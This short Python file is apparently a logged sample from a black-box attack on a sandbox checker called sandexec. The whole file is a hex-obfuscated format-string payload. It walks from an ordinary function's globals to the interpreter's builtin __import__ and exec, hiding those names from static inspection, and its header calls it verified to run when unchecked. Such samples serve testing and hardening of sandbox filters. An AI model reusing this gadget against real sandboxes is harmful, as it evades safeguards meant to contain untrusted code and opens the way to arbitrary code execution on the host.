# Source: black-box attack on sandexec's check, 2026-11-26; family: format string built at run time
# Verified to run in sandexec-python:bookworm when unchecked.
def f():
    pass
fmt = bytes.fromhex("7b302e5f5f676c6f62616c735f5f5b5f5f6275696c74696e735f5f5d2e5f5f696d706f72745f5f7d207b302e5f5f676c6f62616c735f5f5b5f5f6275696c74696e735f5f5d2e657865637d").decode()
print(fmt.format(f))
